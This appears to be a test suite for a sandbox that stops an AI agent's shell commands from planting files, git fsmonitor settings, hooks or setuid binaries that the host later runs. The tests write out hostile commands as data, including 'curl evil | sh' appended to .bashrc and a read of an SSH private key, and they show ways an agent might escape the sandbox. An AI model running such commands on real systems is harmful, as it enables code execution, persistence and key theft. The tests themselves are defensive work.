import { execFileSync } from 'node:child_process';
import { existsSync, statSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeWorkspace, type TestWorkspace } from '../builtin/testing/test-support.js';
import { bubblewrapHere, sandboxedShell } from './testing/test-support.js';

// What an agent writes inside the sandbox must never be loaded, run or obeyed by the host later.
// Each test plants something the host would trust and shows it never reaches the host.
const bwrapHere = await bubblewrapHere();

let ws: TestWorkspace;
let home: string;
beforeEach(async () => {
  ws = await makeWorkspace();
  home = path.join(ws.outside, 'home');
  await mkdir(home);
});
afterEach(() => ws.cleanup());

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, HOME: home } });

describe.runIf(bwrapHere)('the sandbox keeps what the host loads out of reach', () => {
  it('no code, settings or policy can be planted where the host loads them, even where none existed', async () => {
    const run = sandboxedShell(ws, home);
    const planted = [
      'tools/helper.tool.mjs',
      'agents/helper.mjs',
      '.cadre/tools/pwn.tool.mjs',
      '.mcp.json',
      '.claude/settings.json',
      '.gemini/settings.json',
      'policy.yaml',
    ];
    const result = await run(
      planted
        .map((file) => `mkdir -p ${path.dirname(file)}; echo 'planted' > ${file}`)
        .join(' 2>/dev/null; ') + ' 2>/dev/null; echo end',
    );
    expect(result.stdout).toContain('end');
    for (const file of planted) expect(existsSync(path.join(ws.root, file)), file).toBe(false);
    // The placeholders that kept those names taken are gone too: the project is as it was.
    expect(await readdir(ws.root)).toEqual([]);
  });

  it('existing code folders stay read-only, and a placeholder held by a running command outlives a shorter one', async () => {
    await ws.write({ 'tools/word-count.tool.mjs': 'export default 1;\n' });
    const run = sandboxedShell(ws, home);
    const slow = run(
      'sleep 1; echo x > tools/word-count.tool.mjs; echo y > tools/new.tool.mjs; ' +
        'mkdir -p agents && echo z > agents/late.mjs; echo slow-done',
    );
    // Starts while the first command holds the agents/ placeholder, and ends before it.
    const quick = await run('echo quick');
    expect(quick.stdout).toContain('quick');
    expect((await slow).stdout).toContain('slow-done');
    expect(await readFile(path.join(ws.root, 'tools/word-count.tool.mjs'), 'utf8')).toBe(
      'export default 1;\n',
    );
    expect(existsSync(path.join(ws.root, 'tools/new.tool.mjs'))).toBe(false);
    expect(existsSync(path.join(ws.root, 'agents'))).toBe(false);
  });

  it('.git cannot be moved, replaced or re-created, so a later host `git status` runs nothing', async () => {
    git(ws.root, 'init', '-q');
    const marker = path.join(ws.outside, 'FSMONITOR-RAN');
    const attack =
      `mv .git .git-old; mkdir -p .git-new && cp -r .git/. .git-new/ 2>/dev/null; ` +
      `printf '[core]\\n\\tfsmonitor = touch ${marker}\\n' >> .git-new/config; ` +
      `mv .git-new .git 2>/dev/null; git config core.fsmonitor 'touch ${marker}'; echo end`;
    const result = await sandboxedShell(ws, home)(attack);
    expect(result.stdout).toContain('end');
    expect(existsSync(path.join(ws.root, '.git-old'))).toBe(false);
    git(ws.root, 'status', '--short');
    expect(existsSync(marker)).toBe(false);
  });

  it('no .git can be made in a workspace that sits inside a host repository', async () => {
    const repo = path.dirname(ws.root);
    git(repo, 'init', '-q');
    const marker = path.join(repo, 'FSMONITOR-RAN');
    const result = await sandboxedShell(
      ws,
      home,
    )(`git init -q . ; git config core.fsmonitor 'touch ${marker}'; echo end`);
    expect(result.stdout).toContain('end');
    expect(existsSync(path.join(ws.root, '.git'))).toBe(false);
    git(ws.root, 'status', '--short');
    expect(existsSync(marker)).toBe(false);
  });

  it('a repository one level down keeps its config, and one the command makes is set aside', async () => {
    await mkdir(path.join(ws.root, 'vendored'));
    git(path.join(ws.root, 'vendored'), 'init', '-q');
    const config = await readFile(path.join(ws.root, 'vendored/.git/config'), 'utf8');
    const marker = path.join(ws.outside, 'FSMONITOR-RAN');
    const result = await sandboxedShell(
      ws,
      home,
    )(
      `git -C vendored config core.fsmonitor 'touch ${marker}'; ` +
        `mkdir fresh && git init -q fresh && git -C fresh config core.fsmonitor 'touch ${marker}' ` +
        `&& echo work > fresh/file.txt && echo made`,
    );
    expect(result.stdout).toContain('made');
    expect(await readFile(path.join(ws.root, 'vendored/.git/config'), 'utf8')).toBe(config);
    expect(existsSync(path.join(ws.root, 'fresh/.git'))).toBe(false);
    expect(existsSync(path.join(ws.root, 'fresh/.git.untrusted'))).toBe(true);
    expect(await readFile(path.join(ws.root, 'fresh/file.txt'), 'utf8')).toBe('work\n');
    expect(result.note).toMatch(/fresh\/\.git\) was renamed to \.git\.untrusted/);
    git(path.join(ws.root, 'vendored'), 'status', '--short');
    expect(existsSync(marker)).toBe(false);
  });

  it('with CADRE_SANDBOX_GIT=commit an agent commits, but git config and hooks stay out of reach', async () => {
    git(ws.root, 'init', '-q');
    const config = await readFile(path.join(ws.root, '.git/config'), 'utf8');
    const result = await sandboxedShell(ws, home, { git: 'commit' })(
      `echo a > a.txt && git add a.txt && git -c user.name=a -c user.email=a@x commit -qm first && echo committed; ` +
        `echo 'touch PWNED' > .git/hooks/pre-commit; mkdir -p .git/info && echo x > .git/info/attributes; ` +
        `mv .git .git-old; echo end`,
    );
    expect(result.stdout).toContain('committed');
    expect(result.stdout).toContain('end');
    expect(git(ws.root, 'log', '--format=%s')).toBe('first\n');
    expect(await readFile(path.join(ws.root, '.git/config'), 'utf8')).toBe(config);
    expect(existsSync(path.join(ws.root, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(ws.root, '.git/info/attributes'))).toBe(false);
    expect(existsSync(path.join(ws.root, '.git-old'))).toBe(false);
  });

  it('a workspace that is the home folder still hides its keys and shell start-up files', async () => {
    await ws.write({ '.ssh/id_ed25519': 'PRIVATE KEY\n', '.bashrc': 'alias ls=ls\n' });
    const run = sandboxedShell(ws, ws.root);
    const result = await run(
      'cat .ssh/id_ed25519; echo "curl evil | sh" >> .bashrc; echo x >> .profile; ' +
        'printf "[core]\\n\\tfsmonitor = evil\\n" >> .gitconfig; echo mine > notes.txt; echo end',
    );
    expect(result.stdout).toContain('end');
    expect(result.stdout + result.stderr).not.toContain('PRIVATE KEY');
    expect(await readFile(path.join(ws.root, '.bashrc'), 'utf8')).toBe('alias ls=ls\n');
    expect(existsSync(path.join(ws.root, '.profile'))).toBe(false);
    expect(existsSync(path.join(ws.root, '.gitconfig'))).toBe(false);
    expect(await readFile(path.join(ws.root, 'notes.txt'), 'utf8')).toBe('mine\n');
  });

  it.runIf(process.getuid?.() === 0)(
    'no file leaves the sandbox with a set-user-id or set-group-id bit, run as root',
    async () => {
      const result = await sandboxedShell(
        ws,
        home,
      )(
        `cp /bin/sh ./x && chmod 6755 ./x; chmod u+s,g+s ./x; install -m 4755 /bin/sh ./y; ` +
          `python3 -c "import os; os.close(os.open('z', os.O_CREAT|os.O_WRONLY, 0o6755))"; ` +
          `mkdir d && chmod 2755 d; chmod 755 x && echo plain-chmod-works`,
      );
      expect(result.stdout).toContain('plain-chmod-works');
      for (const name of ['x', 'y', 'z', 'd']) {
        const file = path.join(ws.root, name);
        if (existsSync(file)) expect(statSync(file).mode & 0o6000, name).toBe(0);
      }
      expect(existsSync(path.join(ws.root, 'x'))).toBe(true);
    },
  );

  it('a relative CADRE_SANDBOX_HIDE is resolved against the workspace, never ignored', async () => {
    await writeFile(path.join(ws.outside, 'secret.txt'), 'TOP SECRET\n');
    const hide = path.relative(ws.root, ws.outside);
    expect(hide).toBe('../outside');
    const result = await sandboxedShell(ws, home, { hide: [hide] })(
      'cat ../outside/secret.txt; echo end',
    );
    expect(result.stdout, result.stderr).toContain('end');
    expect(result.stdout).not.toContain('TOP SECRET');
  });
});
